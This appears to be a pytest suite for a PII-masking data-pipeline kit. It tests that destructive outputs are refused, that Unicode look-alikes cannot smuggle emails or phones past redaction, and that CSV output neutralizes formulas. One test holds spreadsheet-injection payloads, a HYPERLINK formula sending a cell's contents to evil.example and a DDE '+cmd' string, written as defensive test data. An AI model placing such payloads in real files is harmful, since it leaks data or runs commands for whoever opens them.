"""Issue 25: the kit under attack. Each test is one attack that once lost data, published a
personal value or failed unclearly; it must now be refused (nothing lost) or neutralized."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from rubric_variants import tolerant_quarantine
from run_support import good_row, options, write_csv

from piimask.errors import Refused, UsageError
from piimask.job import run
from piimask.keys.keyring import new_keyring, save
from piimask.rubric import load_rubric


@pytest.fixture(scope="module")
def keyring_file(tmp_path_factory):
    path = tmp_path_factory.mktemp("keys") / "keyring.json"
    save(new_keyring("quarterly", back=12, ahead=4), f"file:{path}")
    return path


def rows(n: int = 4, **over) -> list[dict]:
    return [good_row(i, **over) for i in range(n)]


# -- data lost


def test_output_naming_an_existing_file_is_refused_and_the_file_kept(spark, tmp_path, keyring_file):
    src = write_csv(tmp_path / "in.csv", rows())
    precious = tmp_path / "report.xlsx"
    precious.write_bytes(b"not ours")
    with pytest.raises(Refused, match="is an existing file"):
        run(spark, options(tmp_path, src, keyring_file, output=str(precious)))
    assert precious.read_bytes() == b"not ours"


def test_output_naming_a_foreign_folder_is_refused_and_its_files_kept(spark, tmp_path, keyring_file):
    src = write_csv(tmp_path / "in.csv", rows())
    home = tmp_path / "home"
    (home / "docs").mkdir(parents=True)
    (home / "docs" / "thesis.txt").write_text("years of work")
    with pytest.raises(Refused, match="holding other data"):
        run(spark, options(tmp_path, src, keyring_file, output=str(home)))
    assert (home / "docs" / "thesis.txt").read_text() == "years of work"
    empty = tmp_path / "empty"
    empty.mkdir()  # an empty folder is fine, and so is a previous output (its _audit/ says so)
    run(spark, options(tmp_path, src, keyring_file, output=str(empty)))
    run(spark, options(tmp_path, src, keyring_file, output=str(empty)))
    assert (empty / "_audit").is_dir()


def test_output_through_a_symbolic_link_into_the_input_is_refused(spark, tmp_path, keyring_file):
    folder = tmp_path / "landing"
    folder.mkdir()
    write_csv(folder / "in.csv", rows())
    (tmp_path / "shortcut").symlink_to(folder, target_is_directory=True)
    with pytest.raises(Refused, match="must not be, contain or sit inside --input"):
        run(spark, options(tmp_path, folder, keyring_file, output=str(tmp_path / "shortcut" / "out")))
    assert sorted(p.name for p in folder.iterdir()) == ["in.csv"]


def test_wrong_typed_parquet_is_refused_and_the_previous_output_kept(spark, tmp_path, keyring_file):
    from pyspark.sql import functions as F

    src = write_csv(tmp_path / "in.csv", rows())
    run(spark, options(tmp_path, src, keyring_file))
    before = sorted(p.name for p in (tmp_path / "out").iterdir())
    df = spark.read.option("header", True).csv(str(src))
    df = df.withColumn("event_ts", F.unix_timestamp(F.col("event_ts").cast("timestamp")))  # epoch long
    df = df.withColumn("gps_lat", F.lit(True))
    df.write.parquet(str(tmp_path / "in.parquet"))
    with pytest.raises(Refused, match="column types do not fit") as err:
        run(spark, options(tmp_path, tmp_path / "in.parquet", keyring_file, input_format="parquet"))
    assert "event_ts is bigint, expected timestamp" in str(err.value)
    assert "gps_lat is boolean" in str(err.value)
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == before


# -- silently wrong


def test_latin1_csv_is_refused(spark, tmp_path, keyring_file):
    src = write_csv(tmp_path / "in.csv", rows(3))
    text = src.read_text(encoding="utf-8").replace("checked the chuck", "met José Müller")
    src.write_bytes(text.encode("latin-1"))
    with pytest.raises(Refused, match="not valid UTF-8") as err:
        run(spark, options(tmp_path, src, keyring_file))
    assert "Müller" not in str(err.value) and "M\ufffdller" not in str(err.value)
    assert not (tmp_path / "out").exists()


def test_latin1_header_is_refused_before_any_work(spark, tmp_path, keyring_file):
    src = tmp_path / "in.csv"
    src.write_bytes("événement,x\n1,2\n".encode("latin-1"))
    with pytest.raises(Refused, match="not valid UTF-8"):
        run(spark, options(tmp_path, src, keyring_file))


def test_email_with_a_nul_or_zero_width_character_is_quarantined(spark, tmp_path, keyring_file):
    data = rows(4)
    data[1]["operator_email"] = "op1.person@exa\x00mple.com"
    data[2]["operator_email"] = "op2.per\u200bson@example.com"
    src = write_csv(tmp_path / "in.csv", data)
    record = run(spark, options(tmp_path, src, keyring_file, rubric=tolerant_quarantine()))
    assert record["counts"]["rows_quarantined"] == 2
    assert record["quarantine_reasons"] == {"operator_email:malformed_email": 2}


def test_csv_output_neutralizes_formulas_and_verify_reads_it_back(spark, tmp_path, keyring_file):
    from piimask.verify import verify

    data = rows(4)
    data[0]["error_code"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    data[1]["error_code"] = "+cmd|' /C calc'!A0"
    data[2]["error_code"] = "@SUM(1+1)"
    data[3]["error_code"] = "-2+3"
    data[0]["torque_nm"] = "-42.3"  # a plain negative number stays a number
    src = write_csv(tmp_path / "in.csv", data)
    o = options(tmp_path, src, keyring_file, output_format="csv")
    run(spark, o)
    body = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "out").glob("*.csv"))
    for cell in ("'=HYPERLINK", "'+cmd", "'@SUM", "'-2+3", "-42.3"):
        assert cell in body
    for line in body.splitlines():
        for cell in line.split(","):
            assert not cell.strip('"').startswith(("=", "+", "@")), cell
    report = verify(spark, o.rubric, o.output, raw=str(src))
    assert report.passed, [r for r in report.results if not r.passed]


@pytest.mark.parametrize(
    "value",
    [
        "ask ｏｐ９＠ｅｘａｍｐｌｅ．ｃｏｍ",  # full width
        "a@b.cd",  # the shortest email the scan's length guard lets through
        "ａ@b.cd",  # the same once folded: the guard on the unfolded bytes lets it through too
        "0123.4567.89ab",  # the shortest MAC (14 bytes), dots like a firmware version's
    ],
)
def test_one_email_or_mac_in_a_kept_column_beyond_the_sample_stops_the_run(
    spark, tmp_path, keyring_file, value
):
    data = rows(260)
    data[250]["error_code"] = value  # past the 200-row sample
    src = write_csv(tmp_path / "in.csv", data)
    with pytest.raises(Refused, match="hold email or MAC addresses") as err:
        run(spark, options(tmp_path, src, keyring_file))
    message = str(err.value)
    assert "'error_code' (1 row(s))" in message and value not in message and "op9" not in message
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "trick",
    [
        "mail ｏｐ１．ｐｅｒｓｏｎ＠ｅｘａｍｐｌｅ．ｃｏｍ now",  # full-width letters and digits
        "mail op1.per\u200bson@exam\u2060ple.com now",  # zero-width space and word joiner
        "mail 𝐨𝐩𝟏.𝐩𝐞𝐫𝐬𝐨𝐧@𝐞𝐱𝐚𝐦𝐩𝐥𝐞.𝐜𝐨𝐦 now",  # mathematical bold
        "call (５０３) ５５５-０１９９ today",  # full-width phone
        "Per\u200bson1 Exa\u00admple checked it",  # the row's own name, split by invisibles
    ],
    ids=["fullwidth-email", "zero-width-email", "math-bold-email", "fullwidth-phone", "own-name"],
)
def test_look_alike_characters_do_not_smuggle_pii_past_redaction(spark, tmp_path, keyring_file, trick):
    from piimask.expr.text import fold_python

    data = rows(3)
    data[1]["operator_notes"] = trick
    src = write_csv(tmp_path / "in.csv", data)
    run(spark, options(tmp_path, src, keyring_file))
    out = spark.read.parquet(str(tmp_path / "out")).collect()
    note = [r.operator_notes for r in out if r.battery_pct == "51"][0]  # good_row(1)'s
    folded = fold_python(note).lower()
    for secret in ("op1.person@example.com", "503", "0199", "person1", "example"):
        assert secret not in folded, note


def test_redaction_keeps_the_original_text_outside_the_spans(spark, tmp_path, keyring_file):
    """Detectors read the fold; the output keeps the original characters around each span (the
    default engine backend), and verify, which folds first, passes on it."""
    from pyspark.sql import functions as F

    from piimask.expr.text import fold_text
    from piimask.treatments.freetext import cascade, engine
    from piimask.treatments.redact import engine_config_of
    from piimask.verify import verify

    data = rows(4)
    data[1]["operator_notes"] = "Ｔｏｏｌ　ｏｋ, call (５０３) ５５５-０１９９ at the café"
    data[2]["operator_notes"] = "mail op7.per\u200bson@exam\u2060ple.com now"
    src = write_csv(tmp_path / "in.csv", data)
    o = options(tmp_path, src, keyring_file)
    run(spark, o)
    notes = {r.battery_pct: r.operator_notes for r in spark.read.parquet(o.output).collect()}
    assert notes["51"] == "Ｔｏｏｌ　ｏｋ, call [PHONE] at the café"
    assert notes["52"] == "mail [EMAIL] now"
    # ordinary notes: what the job wrote before (the cascade on the fold, which is the note itself)
    params = load_rubric(o.rubric).column("operator_notes").params
    config, folded = engine_config_of(params), fold_text("operator_notes")
    raw = spark.read.option("header", True).csv(str(src))
    old = cascade.redact_undecided(
        folded, engine.redact(folded, config, ["operator_name"]), config, params.get("placeholders")
    )
    before = raw.select("battery_pct", old)
    for pct, note in before.where(F.col("battery_pct").isin("50", "53")).collect():
        assert notes[pct] == note
    report = verify(spark, o.rubric, o.output, raw=str(src), keyring=o.keyring)
    assert report.passed, [r for r in report.results if not r.passed]


def test_verify_folds_look_alikes_too(spark, tmp_path, keyring_file):
    """A redacted text that still holds a full-width email (as an older job wrote it) fails
    verify: its free-text invariant and leak scan read the folded text."""
    from pyspark.sql import functions as F

    from piimask.verify import verify

    src = write_csv(tmp_path / "in.csv", rows(3))
    o = options(tmp_path, src, keyring_file)
    run(spark, o)
    out = spark.read.parquet(o.output)
    tampered = out.withColumn("operator_notes", F.lit("ask ｏｐ１．ｐｅｒｓｏｎ＠ｅｘａｍｐｌｅ．ｃｏｍ"))
    tampered.write.parquet(str(tmp_path / "t"))
    for f in (tmp_path / "out").glob("*.parquet"):
        f.unlink()
    for f in (tmp_path / "t").glob("*.parquet"):
        f.rename(tmp_path / "out" / f.name)
    report = verify(spark, o.rubric, o.output, raw=str(src))
    failed = {r.reason for r in report.results if not r.passed}
    assert failed, "verify passed a full-width email in free text"


# -- unclear


def test_duplicate_header_says_duplicate_column(spark, tmp_path, keyring_file):
    src = write_csv(tmp_path / "in.csv", rows(2))
    lines = src.read_text().splitlines()
    lines[0] = lines[0].replace("torque_nm", "event_id")
    src.write_text("\n".join(lines) + "\n")
    with pytest.raises(Refused, match="duplicate column in its header: 'event_id'"):
        run(spark, options(tmp_path, src, keyring_file))


def test_unwritable_output_fails_early_with_a_clear_message(spark, tmp_path, keyring_file):
    src = write_csv(tmp_path / "in.csv", rows(2))
    # /proc refuses new entries even to root, like a read-only mount
    # the probe goes where the run stages: inside --output (stages live inside their dataset)
    with pytest.raises(UsageError, match="--output location /proc/piimask-no/out cannot be written"):
        run(spark, options(tmp_path, src, keyring_file, output="/proc/piimask-no/out"))


def test_stale_staging_folders_of_a_killed_run_are_removed(spark, tmp_path, keyring_file):
    # stages live inside their dataset and are named by their run's start time: a stage older than
    # the longest Glue run is a dead run's, and holds raw rows nothing else lists
    src = write_csv(tmp_path / "in.csv", rows(2))
    stale = [
        tmp_path / "out" / ".staging-20200101T000000Z-dead",
        tmp_path / "raw" / "quarantine" / ".staging-20200101T000000Z-dead",
    ]
    now = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
    live = tmp_path / "raw" / "quarantine" / f".staging-{now}-running"
    for folder in [*stale, live]:
        folder.mkdir(parents=True)
        (folder / "part-0.parquet").write_bytes(b"raw rows")
    (tmp_path / "out" / "_audit").mkdir()  # a previous output of the kit, so it may be replaced
    run(spark, options(tmp_path, src, keyring_file))
    assert not any(f.exists() for f in stale)
    assert live.exists()  # young: a concurrent run may still own it


def test_raw_zone_partitions_carry_their_run_record_if_the_output_is_never_published(
    spark, tmp_path, keyring_file, monkeypatch
):
    from piimask.storage.transaction import StagedTransaction

    def crash(self, staged, final, keep=()):
        raise KeyboardInterrupt  # as a kill between the raw zone's publication and the output's

    data = rows(3)
    data[0]["gps_lat"] = "123"  # one quarantined row
    src = write_csv(tmp_path / "in.csv", data)
    monkeypatch.setattr(StagedTransaction, "replace", crash)
    with pytest.raises(KeyboardInterrupt):
        run(spark, options(tmp_path, src, keyring_file, rubric=tolerant_quarantine()))
    assert not (tmp_path / "out").exists()
    for zone in ("quarantine", "vault"):
        parts = list((tmp_path / "raw" / zone).glob("run_id=*"))
        assert len(parts) == 1
        record = json.loads((parts[0] / "_run.json").read_text())
        assert record["run_id"] == parts[0].name.split("=", 1)[1]
    q = spark.read.parquet(str(tmp_path / "raw" / "quarantine"))
    assert q.count() == 1  # Spark still reads only the data files


def test_quarantine_ceiling_stops_publication_and_names_the_top_reasons(
    spark, tmp_path, keyring_file, capsys
):
    """The default rubric's ceiling (5%): 3 bad rows of 50 (6%) publish nothing and exit 1; the
    message names the reason codes with their counts, never a value."""
    from piimask.cli import main as cli_main

    good = write_csv(tmp_path / "good.csv", rows(4))
    run(spark, options(tmp_path, good, keyring_file))
    before = {str(p): p.stat().st_mtime_ns for p in (tmp_path / "out").rglob("*")}
    data = rows(50)
    data[3]["gps_lat"] = "123.4"
    data[7]["event_ts"] = "SECRET-42"
    data[9]["gps_lat"] = "-99.5"
    src = write_csv(tmp_path / "in.csv", data)
    o = options(tmp_path, src, keyring_file)
    argv = ["run", "--rubric", o.rubric, "--input", o.input, "--output", o.output]
    argv += ["--quarantine", o.quarantine, "--vault", o.vault, "--keyring", o.keyring]
    assert cli_main(argv) == 1
    err = capsys.readouterr().err
    assert "3 of 50 input rows failed validation (more than the quarantine ceiling of 5%" in err
    assert "top reasons: gps_lat:out_of_range (2), event_ts:unparsable_timestamp (1)." in err
    for value in ("SECRET-42", "123.4", "-99.5"):
        assert value not in err
    assert {str(p): p.stat().st_mtime_ns for p in (tmp_path / "out").rglob("*")} == before
    assert len(list((tmp_path / "raw" / "quarantine").glob("run_id=*"))) == 1  # the good run's
    assert not list(tmp_path.rglob(".staging-*"))


def test_quarantine_under_the_ceiling_publishes(spark, tmp_path, keyring_file):
    data = rows(50)
    data[3]["gps_lat"] = "123.4"
    data[7]["event_ts"] = "SECRET-42"  # 2 of 50: 4%, under the default 5%
    src = write_csv(tmp_path / "in.csv", data)
    record = run(spark, options(tmp_path, src, keyring_file))
    assert (record["counts"]["rows_out"], record["counts"]["rows_quarantined"]) == (48, 2)
    assert spark.read.parquet(str(tmp_path / "out")).count() == 48


def test_a_rubric_sets_its_own_quarantine_ceiling(spark, tmp_path, keyring_file):
    import yaml

    data = rows(20)
    data[3]["gps_lat"] = "123.4"  # 1 of 20: 5%, at the default ceiling
    src = write_csv(tmp_path / "in.csv", data)
    doc = yaml.safe_load(Path(options(tmp_path, src, keyring_file).rubric).read_text(encoding="utf-8"))
    doc["quarantine"] = {"max_share": 0.01}
    strict = tmp_path / "strict.yaml"
    strict.write_text(yaml.safe_dump(doc, sort_keys=False), encoding="utf-8")
    with pytest.raises(Refused, match="more than the quarantine ceiling of 1%") as err:
        run(spark, options(tmp_path, src, keyring_file, rubric=str(strict)))
    assert err.value.exit_code == 1 and not (tmp_path / "out").exists()
    record = run(spark, options(tmp_path, src, keyring_file))
    assert record["counts"]["rows_quarantined"] == 1


def test_a_run_whose_every_row_is_quarantined_publishes_nothing(spark, tmp_path, keyring_file):
    src = write_csv(tmp_path / "in.csv", rows(4, gps_lat="999"))
    with pytest.raises(Refused, match="4 of 4 input rows failed validation \\(every row\\)"):
        run(spark, options(tmp_path, src, keyring_file))
    assert not (tmp_path / "out").exists()
